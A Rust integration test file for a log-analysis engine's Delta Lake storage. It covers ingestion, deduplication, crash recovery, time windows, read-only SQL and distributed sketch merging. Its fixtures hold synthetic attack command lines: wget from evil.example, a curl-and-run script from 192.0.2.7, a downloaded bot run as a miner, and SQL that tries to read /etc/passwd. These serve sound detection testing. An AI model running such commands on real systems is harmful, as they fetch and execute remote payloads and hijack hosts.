//! What is in a lake is what a local run reads, once, whatever crashed.
#![cfg(feature = "lake")]
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use datafusion::arrow::array::AsArray;
use datafusion::arrow::datatypes::Int64Type;
use datafusion::physical_plan::displayable;
use datafusion::prelude::SessionContext;
use ringleader_engine::assemble::Known;
use ringleader_engine::collect::{ALL_BUCKETS, CollectConfig, Progress, Quiet, collect};
use ringleader_engine::excerpts::Spool;
use ringleader_engine::lake::{
    Error, IngestReport, Lake, LakeBuckets, LakeCodec, SketchFn, SketchFns, Window, ingest, sketch_merge,
};
use ringleader_engine::sources::Input;
use ringleader_engine::{Buckets, Config, conclude};
use ringleader_model::findings::RunInfo;
use ringleader_model::hash::{hash64, hash128};
use ringleader_model::time::TimeDefaults;
use ringleader_model::{Context, Field, IndicatorKind, Rows, Timestamp};
use ringleader_pipeline::collect::rows::Bucket;
use ringleader_pipeline::label::episode::Knowledge;
use ringleader_pipeline::merge::sketch::{EpisodeFacts, Feature, NodeFacts, Sketch};

fn config() -> CollectConfig {
    CollectConfig {
        threads: 2,
        memory: 64 << 20,
        format: None,
        host: None,
        tenant: "t1".to_owned(),
        times: TimeDefaults::default(),
    }
}

/// Lines `from..to` of a log of several hosts and days.
fn lines(from: usize, to: usize) -> String {
    let mut text = String::new();
    for n in from..to {
        let (day, host) = (1 + n % 3, n % 5);
        text.push_str(&format!(
            concat!(
                r#"{{"id":"{}","time":"2026-03-0{} 08:21:{:02}.27281","host":"web{}.example","file_path":"/usr/bin/wget","#,
                r#""cmd_line":"wget http://evil.example/{}","pid":{},"ppid":1,"parent":"/bin/sh"}}"#,
                "\n"
            ),
            n,
            day,
            n % 60,
            host,
            n % 7,
            n + 100
        ));
    }
    text
}

struct Place {
    _temporary: tempfile::TempDir,
    logs: PathBuf,
    lake: PathBuf,
}

fn place() -> Place {
    let temporary = tempfile::tempdir().unwrap();
    let logs = temporary.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    // A name that URLs, globs and object stores would each read in another way.
    let lake = temporary.path().join("la ke #1?é[0]");
    Place { logs, lake, _temporary: temporary }
}

impl Place {
    fn log(&self, name: &str, text: &str) -> PathBuf {
        let path = self.logs.join(name);
        std::fs::write(&path, text).unwrap();
        path
    }
    fn ingest(&self) -> IngestReport {
        ingest(&[Input::Path(self.logs.clone())], &config(), &self.lake, &Quiet).unwrap()
    }
    fn buckets(&self) -> LakeBuckets {
        Lake::open(&self.lake).unwrap().buckets(Window::default()).unwrap()
    }
}

/// Everything there is to know of the events of a bucket, in an order of its own.
fn events(bucket: &Bucket) -> Vec<String> {
    let mut events: Vec<String> = bucket
        .rows
        .iter()
        .map(|it| {
            let mut fields: Vec<(&str, &str)> =
                bucket.fields(it).iter().map(|(field, sym)| (field.name(), bucket.strings.get(*sym))).collect();
            fields.sort_unstable();
            let codes = (it.class, it.activity, it.sensor_role, it.utc_offset_minutes, it.pid, it.ppid);
            let names = (bucket.strings.get(it.host), bucket.strings.get(it.tenant), bucket.source_event_id(it));
            format!("{} {:?} {:?} {codes:?} {names:?} {fields:?}", it.id, it.time, it.place)
        })
        .collect();
    events.sort();
    events
}

fn all(buckets: &dyn Buckets) -> Vec<Vec<String>> {
    (0..buckets.n_buckets()).map(|it| events(&buckets.load(it).unwrap())).collect()
}

fn count(lake: &Path, sql: &str) -> i64 {
    let batches = Lake::open(lake).unwrap().query(sql).unwrap();
    batches[0].column(0).as_primitive::<Int64Type>().value(0)
}

#[test]
fn a_lake_holds_what_a_local_run_reads() {
    let at = place();
    at.log("b.ndjson", &lines(0, 500));
    at.log("a.ndjson", &format!("{}{{broken\n{}", lines(500, 510), lines(510, 600)));
    at.log("unknown.bin", "nothing that anybody writes");
    at.log("empty.log", "");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(lines(590, 650).as_bytes()).unwrap();
    std::fs::write(at.logs.join("c.ndjson.gz"), gz.finish().unwrap()).unwrap();

    let local = collect(&[Input::Path(at.logs.clone())], &config(), &Quiet).unwrap();
    let report = at.ingest();
    assert_eq!((report.ingested.len(), report.already_there, report.commits), (5, 0, 1));
    assert_eq!((report.events, report.rejected), (660, 2));
    let lake = at.buckets();
    assert_eq!(lake.sources(), local.sources());
    assert_eq!(lake.formats(), local.formats());
    assert_eq!(lake.rejected(), local.rejected());
    assert_eq!(lake.n_buckets(), ALL_BUCKETS);
    let (lake, local) = (all(&lake), all(&local));
    assert_eq!(local.iter().map(Vec::len).sum::<usize>(), 660);
    assert_eq!(lake, local);
}

#[test]
fn the_same_inputs_again_change_nothing() {
    let at = place();
    at.log("a.ndjson", &format!("{}{{broken\n", lines(0, 100)));
    let first = at.ingest();
    let before = all(&at.buckets());
    let again = at.ingest();
    assert_eq!((again.ingested.len(), again.already_there, again.commits, again.events), (0, 1, 0, 0));
    assert_eq!(again.version, first.version);
    assert_eq!(all(&at.buckets()), before);
    let named_twice = [Input::Path(at.logs.clone()), Input::Path(at.logs.join("a.ndjson"))];
    let again = ingest(&named_twice, &config(), &at.lake, &Quiet).unwrap();
    assert_eq!((again.already_there, again.version), (1, first.version));
    // The transaction says it too, and how much of the file it was.
    let delivered = &first.ingested[0];
    let lake = Lake::open(&at.lake).unwrap();
    assert_eq!(lake.transaction(&delivered.app_id).unwrap(), Some(delivered.bytes as i64));
    assert_eq!(lake.transaction("another").unwrap(), None);
    assert_eq!(lake.buckets(Window::default()).unwrap().rejected().len(), 1);
}

#[test]
fn a_file_that_grew_is_read_again_under_the_same_event_ids() {
    let at = place();
    at.log("a.ndjson", &lines(0, 100));
    at.ingest();
    let pinned = at.buckets();
    let before = all(&pinned);
    at.log("a.ndjson", &lines(0, 150));
    assert_eq!(at.ingest().events, 150);
    let buckets = at.buckets();
    assert_eq!(buckets.sources().len(), 1);
    assert_eq!(buckets.sources()[0].read, 250);
    let mut events: Vec<String> = all(&buckets).concat();
    assert_eq!(events.len(), 250);
    events.sort();
    events.dedup();
    assert_eq!(events.len(), 150);
    // What was pinned stays what it was.
    assert_eq!(all(&pinned), before);
}

#[test]
fn what_could_not_be_opened_is_remembered_until_it_can_be() {
    let at = place();
    at.log("b.ndjson", &lines(0, 10));
    let link = at.logs.join("a.ndjson");
    std::os::unix::fs::symlink(at.logs.join("nowhere"), &link).unwrap();
    let report = at.ingest();
    assert_eq!((report.unreadable.len(), report.ingested.len(), report.commits), (1, 1, 2));
    assert_eq!(report.unreadable[0].name, link.display().to_string());
    // It is tried again, and told again, and stands in the lake once.
    let again = at.ingest();
    assert_eq!((again.unreadable.len(), again.commits, again.version), (1, 0, report.version));
    let buckets = at.buckets();
    let told: Vec<_> = buckets.sources().iter().map(|it| (&*it.source, it.read, it.rejected)).collect();
    let names = [&link, &at.logs.join("b.ndjson")].map(|it| it.display().to_string());
    assert_eq!(told, [(&*names[0], 0, 1), (&*names[1], 10, 0)]);
    assert_eq!(&*buckets.rejected()[0].reason, "no such file or directory");
    assert_eq!(buckets.inputs().len(), 1);
    std::fs::remove_file(&link).unwrap();
    at.log("a.ndjson", &lines(10, 20));
    assert_eq!(at.ingest().events, 10);
    let buckets = at.buckets();
    assert_eq!(buckets.sources().iter().map(|it| (it.read, it.rejected)).collect::<Vec<_>>(), [(10, 0), (10, 0)]);
    assert!(buckets.rejected().is_empty());
    assert_eq!(buckets.inputs().len(), 2);
}

/// All that a run found, but for what may differ from run to run.
fn findings((run, rows): (ringleader_engine::Run, Rows)) -> String {
    let mut findings = run.findings;
    findings.run = RunInfo::default();
    format!("{findings:#?}\n{rows:#?}\n{:#?}", run.analyzed.health)
}

#[test]
fn a_lake_gives_the_findings_of_a_run() {
    let at = place();
    fixtures(&at.logs);
    bot(&at.logs.join("fleet"), 12);
    at.log("fleet/half.ndjson", &format!("{}{{broken\n", lines(0, 50)));
    at.log("fleet/unknown.bin", "nothing that anybody writes");
    at.log("fleet/empty.log", "");
    std::os::unix::fs::symlink(at.logs.join("nowhere"), at.logs.join("gone.log")).unwrap();
    // Records that two files have in common.
    std::fs::copy(at.logs.join("fleet/web03.ndjson"), at.logs.join("web03.again.ndjson")).unwrap();

    let config = Config { collect: config(), processes: true, known: Known::default() };
    let knowledge = Knowledge::built_in();
    let inputs = [Input::Path(at.logs.clone())];
    let mut rows = Rows::default();
    let local = ringleader_engine::run(&inputs, &knowledge, &config, &Quiet, &mut rows).unwrap();
    assert!(!local.findings.gangs.is_empty() && local.findings.summary.events_duplicate > 0);
    assert!(local.findings.evidence.iter().all(|it| it.excerpt.is_some()));
    assert_eq!(local.findings.rejected.iter().filter(|it| it.source.ends_with("gone.log")).count(), 1);
    let local = findings((local, rows));

    // In two steps, the later files first.
    ingest(&[Input::Path(at.logs.join("fleet"))], &config.collect, &at.lake, &Quiet).unwrap();
    ingest(&inputs, &config.collect, &at.lake, &Quiet).unwrap();
    let whole = at.lake.with_extension("whole");
    ingest(&inputs, &config.collect, &whole, &Quiet).unwrap();
    let analyze = |lake: &Path| {
        let buckets = Lake::open(lake).unwrap().buckets(Window::default()).unwrap();
        let mut rows = Rows::default();
        let run =
            conclude(&buckets, &knowledge, &config, &Spool::default(), &Quiet, &mut Vec::new(), &mut rows).unwrap();
        (run, rows)
    };
    same(&findings(analyze(&at.lake)), &local);
    let before = analyze(&whole);

    // Another tool packs the many small files.
    let files = Lake::open(&at.lake).unwrap().files().unwrap().len();
    let url = url::Url::from_directory_path(&at.lake).unwrap();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async { deltalake::open_table(url).await.unwrap().optimize().await.unwrap() });
    assert!(Lake::open(&at.lake).unwrap().files().unwrap().len() < files);
    same(&findings(analyze(&at.lake)), &local);
    assert_eq!(ingest(&inputs, &config.collect, &at.lake, &Quiet).unwrap().commits, 0);

    // One log grew, one was rotated: what stands in its place now is not what was read.
    let quoted = |run: &(ringleader_engine::Run, Rows), name: &str| {
        let of = run.0.findings.evidence.iter().filter(|it| it.source.as_deref().is_some_and(|it| it.ends_with(name)));
        of.fold((0, 0), |(all, some), it| (all + 1, some + u64::from(it.excerpt.is_some())))
    };
    let name = |it: &str| format!("fleet/{it}.ndjson");
    let mut cited = (0..12).map(|it| format!("web{it:02}")).filter(|it| quoted(&before, &name(it)).0 > 0);
    let (grown, rotated) = (name(&cited.next().unwrap()), name(&cited.next().unwrap()));
    let mut log = std::fs::OpenOptions::new().append(true).open(at.logs.join(&grown)).unwrap();
    log.write_all(b"more\n").unwrap();
    let text = std::fs::read_to_string(at.logs.join(&rotated)).unwrap();
    std::fs::write(at.logs.join(&rotated), text.replace("/tmp/", "/opt/")).unwrap();
    let after = analyze(&whole);
    assert_eq!(quoted(&after, &grown), quoted(&before, &grown));
    assert_eq!(quoted(&after, &rotated), (quoted(&before, &rotated).0, 0));
    same(&findings(before), &local);
}

/// Says where two long texts part, rather than print them.
fn same(got: &str, expect: &str) {
    if let Some(at) = got.lines().zip(expect.lines()).position(|(a, b)| a != b) {
        let part = |it: &str| it.lines().skip(at.saturating_sub(12)).take(20).collect::<Vec<_>>().join("\n");
        panic!("line {at}\n{}\n--- not\n{}", part(got), part(expect));
    }
    assert_eq!(got.len(), expect.len());
}

/// Every format's own fixtures.
fn fixtures(to: &Path) {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/collect");
    let mut n = 0;
    for format in std::fs::read_dir(root).unwrap().map(|it| it.unwrap().path()) {
        for file in std::fs::read_dir(&format).unwrap().map(|it| it.unwrap().path()) {
            if file.extension().is_some_and(|it| it == "in") {
                let folder = to.join(format.file_name().unwrap());
                std::fs::create_dir_all(&folder).unwrap();
                std::fs::copy(&file, folder.join(file.file_name().unwrap())).unwrap();
                n += 1;
            }
        }
    }
    assert!(n > 40, "{n} fixtures");
}

/// Hosts on which one bot downloads itself, runs, and looks for others; on some, a process was not logged.
fn bot(to: &Path, hosts: usize) {
    std::fs::create_dir_all(to).unwrap();
    for host in 0..hosts {
        let mut log = String::new();
        let commands = [
            (100, 1, "/usr/sbin/sshd", "sshd: root@notty".to_owned()),
            (101, 100, "/bin/sh", "sh -c curl -s http://192.0.2.7/x.sh -o /tmp/x.sh; sh /tmp/x.sh".to_owned()),
            (102, 101, "/usr/bin/curl", "curl -s http://192.0.2.7/x.sh -o /tmp/x.sh".to_owned()),
            (103, 101, "/bin/sh", "sh /tmp/x.sh".to_owned()),
            (104, 103, "/usr/bin/wget", "wget http://198.51.100.9/.y/bot -O /tmp/.b".to_owned()),
            (105, 103, "/bin/chmod", "chmod 777 /tmp/.b".to_owned()),
            (106, 103, "/tmp/.b", format!("/tmp/.b -o 198.51.100.9:3333 -u w{host}")),
            (107, 103, "/usr/bin/pkill", "pkill -9 xmrig".to_owned()),
            (108, 1, "/usr/sbin/cron", "cron -f".to_owned()),
        ];
        for (n, (pid, ppid, path, line)) in commands.iter().enumerate() {
            if host % 4 == 1 && *pid == 103 {
                continue;
            }
            let second = host * 3 + n;
            log.push_str(&format!(
                concat!(
                    r#"{{"id":"{}-{}","time":"2026-03-0{} 10:{:02}:{:02}.5","host":"web{:02}","file_path":"{}","#,
                    r#""cmd_line":"{}","pid":{},"ppid":{}}}"#,
                    "\n"
                ),
                host,
                n,
                1 + host % 3,
                second / 60,
                second % 60,
                host,
                path,
                line,
                pid,
                ppid
            ));
        }
        std::fs::write(to.join(format!("web{host:02}.ndjson")), log).unwrap();
    }
}

/// Writes to the log while it is read.
struct Appending(PathBuf, std::sync::atomic::AtomicBool);

impl Progress for Appending {
    fn advance(&self, _: u64, _: u64) {
        if !self.1.swap(true, std::sync::atomic::Ordering::SeqCst) {
            let mut file = std::fs::OpenOptions::new().append(true).open(&self.0).unwrap();
            file.write_all(lines(100, 120).as_bytes()).unwrap();
        }
    }
}

#[test]
fn a_file_that_changes_while_it_is_read_is_read_again() {
    let at = place();
    let log = at.log("a.ndjson", &lines(0, 100));
    let inputs = [Input::Path(log.clone())];
    let report = ingest(&inputs, &config(), &at.lake, &Appending(log.clone(), false.into())).unwrap();
    assert_eq!(report.changed, [log.display().to_string()]);
    assert!(report.events >= 100);
    assert_eq!(at.ingest().events, 120);
    assert_eq!(at.ingest().already_there, 1);
    let mut events = all(&at.buckets()).concat();
    events.sort();
    events.dedup();
    assert_eq!(events.len(), 120);
}

/// Run again as a process of its own by the test below.
#[test]
fn reading_child() {
    let Ok(lake) = std::env::var("READ_LAKE") else { return };
    let report = ingest(&[Input::Stdin], &config(), Path::new(&lake), &Quiet).unwrap();
    assert_eq!(report.ingested.len() as u64 + report.already_there, 1);
}

#[test]
fn what_can_be_read_only_once_is_delivered_once_too() {
    let at = place();
    for _ in 0..2 {
        let mut child = std::process::Command::new(std::env::current_exe().unwrap())
            .args(["--exact", "reading_child"])
            .env("READ_LAKE", &at.lake)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(lines(0, 50).as_bytes()).unwrap();
        assert!(child.wait().unwrap().success());
    }
    let buckets = at.buckets();
    assert_eq!((&*buckets.sources()[0].source, buckets.sources()[0].read, buckets.sources().len()), ("-", 50, 1));
    assert_eq!(all(&buckets).concat().len(), 50);
}

/// Run again as a process of its own by the test below; dies between writing and committing.
#[test]
fn crashing_child() {
    let (Ok(lake), Ok(logs)) = (std::env::var("CRASH_LAKE"), std::env::var("CRASH_LOGS")) else { return };
    let mut lake = Lake::open_or_create(Path::new(&lake)).unwrap();
    let staged = lake.stage(&[Input::Path(logs.into())], &config(), &Quiet).unwrap();
    assert!(staged.files() > 0);
    std::process::abort();
}

#[test]
fn a_crash_before_the_commit_leaves_nothing_and_a_retry_commits_once() {
    let at = place();
    at.log("a.ndjson", &lines(0, 100));
    at.log("b.ndjson", &lines(100, 200));
    for _ in 0..2 {
        let status = std::process::Command::new(std::env::current_exe().unwrap())
            .args(["--exact", "crashing_child", "--nocapture"])
            .env("CRASH_LAKE", &at.lake)
            .env("CRASH_LOGS", &at.logs)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(!status.success());
    }
    let mut lake = Lake::open(&at.lake).unwrap();
    assert_eq!(lake.version(), 0);
    assert_eq!(all(&lake.buckets(Window::default()).unwrap()).concat().len(), 0);
    assert!(parquet_files(&at.lake) > 0, "the crashed processes wrote files");
    let report = lake.ingest(&[Input::Path(at.logs.clone())], &config(), &Quiet).unwrap();
    assert_eq!((report.events, report.commits), (200, 1));
    // A crash after the commit, before anybody was told: the next run passes the files over.
    assert_eq!(at.ingest().already_there, 2);
    assert_eq!(all(&at.buckets()).concat().len(), 200);
    assert_eq!(count(&at.lake, "SELECT count(*) FROM events"), 200);
}

fn parquet_files(folder: &Path) -> usize {
    let entries = std::fs::read_dir(folder).unwrap().map(|it| it.unwrap().path());
    entries
        .map(
            |it| if it.is_dir() { parquet_files(&it) } else { it.extension().is_some_and(|it| it == "parquet").into() },
        )
        .sum()
}

#[test]
fn of_two_writers_of_one_file_one_commits() {
    let at = place();
    at.log("a.ndjson", &lines(0, 100));
    let inputs = [Input::Path(at.logs.clone())];
    let mut first = Lake::open_or_create(&at.lake).unwrap();
    let mut second = Lake::open_or_create(&at.lake).unwrap();
    let one = first.stage(&inputs, &config(), &Quiet).unwrap();
    let other = second.stage(&inputs, &config(), &Quiet).unwrap();
    first.commit(one).unwrap();
    assert!(second.commit(other).unwrap_err().to_string().starts_with("cannot commit to the lake"));
    // Other files do not collide: the commit goes on top of the newer version.
    let mut stale = Lake::open(&at.lake).unwrap();
    at.log("b.ndjson", &lines(100, 200));
    let staged = stale.stage(&inputs, &config(), &Quiet).unwrap();
    assert_eq!(staged.delivered().len(), 1);
    at.log("c.ndjson", &lines(200, 300));
    let report = first.ingest(&[Input::Path(at.logs.join("c.ndjson"))], &config(), &Quiet).unwrap();
    assert_eq!(report.events, 100);
    stale.commit(staged).unwrap();
    assert_eq!(all(&at.buckets()).concat().len(), 300);
}

#[test]
fn many_commits_with_checkpoints_between_them() {
    let at = place();
    for n in 0..13 {
        at.log(&format!("{n:02}.ndjson"), &lines(n * 10, n * 10 + 10));
        assert_eq!(at.ingest().events, 10);
    }
    assert!(at.lake.join("_delta_log/_last_checkpoint").exists());
    assert_eq!(at.ingest().already_there, 13);
    let local = collect(&[Input::Path(at.logs.clone())], &config(), &Quiet).unwrap();
    let lake = at.buckets();
    assert_eq!(lake.sources(), local.sources());
    assert_eq!(all(&lake), all(&local));
}

#[test]
fn a_window_of_time() {
    let at = place();
    at.log("a.ndjson", &lines(0, 300));
    at.ingest();
    let time = |text: &str| Timestamp::parse(text, &TimeDefaults::default()).map(|it| it.0);
    let lake = Lake::open(&at.lake).unwrap();
    let read = |since: Option<&str>, until: Option<&str>| {
        let window = Window { since: since.and_then(time), until: until.and_then(time) };
        let buckets = lake.buckets(window).unwrap();
        let times: Vec<Timestamp> = (0..ALL_BUCKETS)
            .flat_map(|it| buckets.load(it).unwrap().rows)
            .map(|it| it.time.unwrap())
            .inspect(|it| {
                assert!(window.since.is_none_or(|since| since <= *it));
                assert!(window.until.is_none_or(|until| *it < until));
            })
            .collect();
        (times.len(), buckets.files().values().flatten().count())
    };
    let (whole, files) = read(None, None);
    assert_eq!(whole, 300);
    let (day, of_day) = read(Some("2026-03-02"), Some("2026-03-02 23:59:59"));
    assert_eq!(day, 100);
    assert!(of_day < files);
    // Seconds 0..30 of the second day: half of the lines that fall on it.
    assert_eq!(read(Some("2026-03-02 08:21:00"), Some("2026-03-02 08:21:30")).0, 50);
    assert_eq!(read(None, Some("2026-03-01")).0, 0);
    assert_eq!(read(Some("2026-03-03"), None).0, 100);
}

#[test]
fn sql_sees_the_classes_and_only_reads() {
    let at = place();
    at.log("a.ndjson", &format!("{}{{broken\n", lines(0, 100)));
    at.ingest();
    assert_eq!(count(&at.lake, "SELECT count(*) FROM process_activity WHERE host_uid = 'web1.example'"), 20);
    assert_eq!(count(&at.lake, "SELECT count(DISTINCT process_cmd_line) FROM process_activity"), 7);
    assert_eq!(
        count(&at.lake, "SELECT count(*) FROM events WHERE time >= '2026-03-02T00:00:00Z' AND day < '2026-03-03'"),
        33
    );
    for class in ["network_activity", "file_activity", "authentication", "http_activity", "detection_finding"] {
        assert_eq!(count(&at.lake, &format!("SELECT count(*) FROM {class}")), 0);
    }
    assert_eq!(count(&at.lake, "SELECT count(*) FROM ingested_sources"), 1);
    assert_eq!(count(&at.lake, "SELECT max(\"offset\") FROM dead_letters"), lines(0, 100).len() as i64);
    let lake = Lake::open(&at.lake).unwrap();
    for bad in [
        "COPY (SELECT 1) TO '/tmp/ringleader-must-not-be.csv'",
        "CREATE EXTERNAL TABLE t STORED AS CSV LOCATION '/etc/passwd'",
        "CREATE TABLE t AS SELECT 1",
        "INSERT INTO lake SELECT * FROM lake",
        "DROP VIEW events",
        "SET datafusion.execution.batch_size = 1",
    ] {
        let error = lake.query(bad).unwrap_err().to_string();
        assert!(error.contains("not supported"), "{bad}: {error}");
    }
    assert!(matches!(lake.query("SELECT nothing FROM events"), Err(Error::Engine { .. })));
}

#[test]
fn what_is_missing_or_damaged_is_named() {
    let at = place();
    assert!(matches!(Lake::open(&at.lake), Err(Error::Missing(_))));
    assert!(matches!(Lake::open_or_create(&at.logs.join("..")), Err(Error::Foreign { .. })));
    let error = Lake::open_or_create(&at.logs.join("50%25")).err().unwrap().to_string();
    assert!(error.contains("% in its path"), "{error}");
    at.log("a.ndjson", &lines(0, 100));
    at.ingest();
    let buckets = at.buckets();
    let (bucket, files) = buckets.files().first_key_value().unwrap();
    let path = at.lake.join(&files[0].path);
    let whole = std::fs::read(&path).unwrap();
    let told = |expect: &str| {
        let error = buckets.load(*bucket).err().unwrap().to_string();
        assert!(error.contains("is damaged") && error.contains(&files[0].path) && error.contains(expect), "{error}");
    };
    std::fs::write(&path, &whole[..whole.len() / 2]).unwrap();
    told("bytes long");
    let mut damaged = whole.clone();
    let middle = damaged.len() - 8;
    damaged[middle..].fill(0);
    std::fs::write(&path, &damaged).unwrap();
    told("");
    std::fs::remove_file(&path).unwrap();
    told("No such file");
    // Other buckets are still read.
    let (other, _) = buckets.files().last_key_value().unwrap();
    assert!(buckets.load(*other).is_ok());
    let log = at.lake.join("_delta_log/00000000000000000001.json");
    std::fs::write(&log, "{\"add\":").unwrap();
    let error = Lake::open(&at.lake).err().unwrap();
    assert!(matches!(error, Error::Damaged { .. }), "{error}");
}

/// A sketch in which every event is an episode; what it came from and in which bucket shows.
struct EveryEvent(String);

impl SketchFn for EveryEvent {
    fn name(&self) -> &str {
        "every_event"
    }
    fn config(&self) -> Vec<u8> {
        self.0.clone().into_bytes()
    }
    fn sketch(&self, bucket: usize, events: Bucket) -> Result<Vec<u8>, String> {
        let mut sketch = Sketch::default();
        // A bucket that was torn apart would count its hosts twice.
        sketch.counts.hosts =
            events.rows.iter().map(|it| it.host).collect::<std::collections::BTreeSet<_>>().len() as u64;
        for row in &events.rows {
            let template = events.text(row, Field::CmdLine).ok_or("no command line")?.to_owned();
            let value = template.trim_start_matches("wget ").to_owned();
            let node = NodeFacts {
                path: hash128(template.as_bytes(), 0),
                template: template.into(),
                sample: format!("{} {} {bucket}", self.0, row.place.source).into(),
                time: row.time,
                ..NodeFacts::default()
            };
            sketch.add(EpisodeFacts {
                id: row.id.0,
                host: hash64(events.strings.get(row.host).as_bytes()),
                first: row.time,
                last: row.time,
                nodes: vec![node],
                features: vec![Feature { kind: IndicatorKind::Url, value, context: Context::Downloaded }],
                n_processes: 1,
                ..EpisodeFacts::default()
            });
        }
        Ok(sketch.to_bytes())
    }
}

fn functions() -> SketchFns {
    SketchFns::default().with("every_event", |config| {
        let text = String::from_utf8(config.to_vec()).map_err(|it| it.to_string())?;
        Ok(Arc::new(EveryEvent(text)))
    })
}

#[test]
fn a_plan_sent_elsewhere_gives_the_bytes_of_a_local_merge() {
    let at = place();
    for (n, name) in ["b", "a", "c"].iter().enumerate() {
        at.log(&format!("{name}.ndjson"), &lines(n * 200, n * 200 + 200));
        at.ingest();
    }
    let function = EveryEvent("x".to_owned());
    let local = collect(&[Input::Path(at.logs.clone())], &config(), &Quiet).unwrap();
    let mut expect = Sketch::default();
    for bucket in 0..ALL_BUCKETS {
        let part = function.sketch(bucket, Buckets::load(&local, bucket).unwrap()).unwrap();
        expect = expect.merge(Sketch::from_bytes(&part).unwrap());
    }
    assert_eq!((expect.counts.episodes, expect.counts.hosts, expect.groups.len()), (600, 5, 7));

    let lake = at.buckets();
    assert!(lake.files().len() > 2, "several buckets");
    let codec = LakeCodec { functions: functions() };
    for groups in [1, 2, 3, 7, 500] {
        let plan = lake.sketch_plan(Arc::new(EveryEvent("x".to_owned())), groups).unwrap();
        let here = lake.run_sketch_plan(Arc::clone(&plan)).unwrap();
        assert_eq!(here.to_bytes(), expect.to_bytes(), "{groups} groups");
        let bytes = codec.encode(Arc::clone(&plan)).unwrap();
        // A session that knows nothing of ours.
        let elsewhere = SessionContext::new();
        let back = codec.decode(&bytes, &elsewhere.task_ctx()).unwrap();
        let show =
            |it: &Arc<dyn datafusion::physical_plan::ExecutionPlan>| displayable(it.as_ref()).indent(true).to_string();
        assert_eq!(show(&back), show(&plan));
        assert!(show(&back).contains("output_partitioning=Hash"), "{}", show(&back));
        assert_eq!(codec.encode(Arc::clone(&back)).unwrap(), bytes);
        assert_eq!(lake.run_sketch_plan(back).unwrap().to_bytes(), expect.to_bytes(), "{groups} groups, decoded");
    }
    let plan = lake.sketch_plan(Arc::new(EveryEvent("x".to_owned())), 2).unwrap();
    let bytes = codec.encode(plan).unwrap();
    let error = LakeCodec::default().decode(&bytes, &SessionContext::new().task_ctx()).unwrap_err();
    assert!(error.to_string().contains("no function every_event"), "{error}");
    for cut in [0, 1, bytes.len() / 2, bytes.len() - 1] {
        assert!(codec.decode(&bytes[..cut], &SessionContext::new().task_ctx()).is_err(), "cut at {cut}");
    }
}

#[test]
fn a_window_reaches_the_sketches_and_nothing_sketches_to_the_empty_element() {
    let at = place();
    at.log("a.ndjson", &lines(0, 300));
    at.ingest();
    let time = |text: &str| Timestamp::parse(text, &TimeDefaults::default()).map(|it| it.0);
    let lake = Lake::open(&at.lake).unwrap();
    let codec = LakeCodec { functions: functions() };
    for (since, until, episodes) in [("2026-03-02", "2026-03-03", 100), ("2027-01-01", "2028-01-01", 0)] {
        let buckets = lake.buckets(Window { since: time(since), until: time(until) }).unwrap();
        let plan = buckets.sketch_plan(Arc::new(EveryEvent(String::new())), 3).unwrap();
        let bytes = codec.encode(plan).unwrap();
        let plan = codec.decode(&bytes, &SessionContext::new().task_ctx()).unwrap();
        let sketch = buckets.run_sketch_plan(plan).unwrap();
        assert_eq!(sketch.counts.episodes, episodes);
        assert_eq!(sketch == Sketch::default(), episodes == 0);
    }
}

#[test]
fn sketches_merge_in_sql() {
    let mut sketch = Sketch::default();
    sketch.counts.events = 2;
    let hex: String = sketch.to_bytes().iter().map(|it| format!("{it:02x}")).collect();
    let sql =
        format!("SELECT sketch_merge(arrow_cast(decode(x, 'hex'), 'Binary')) FROM (VALUES ('{hex}'), ('{hex}')) t(x)");
    let merged = tokio::runtime::Runtime::new().unwrap().block_on(async {
        let context = SessionContext::new();
        context.register_udaf(sketch_merge().as_ref().clone());
        context.sql(&sql).await.unwrap().collect().await.unwrap()
    });
    let merged = Sketch::from_bytes(merged[0].column(0).as_binary::<i32>().value(0)).unwrap();
    assert_eq!(merged.counts.events, 4);
}

#[test]
fn several_threads_load_buckets_at_once() {
    let at = place();
    at.log("a.ndjson", &lines(0, 1000));
    at.ingest();
    let lake = at.buckets();
    let counts: BTreeMap<usize, usize> = std::thread::scope(|scope| {
        let threads: Vec<_> = (0..4)
            .map(|n| {
                let lake = &lake;
                scope.spawn(move || {
                    (n..ALL_BUCKETS).step_by(4).map(|it| (it, lake.load(it).unwrap().rows.len())).collect::<Vec<_>>()
                })
            })
            .collect();
        threads.into_iter().flat_map(|it| it.join().unwrap()).collect()
    });
    assert_eq!(counts.values().sum::<usize>(), 1000);
}
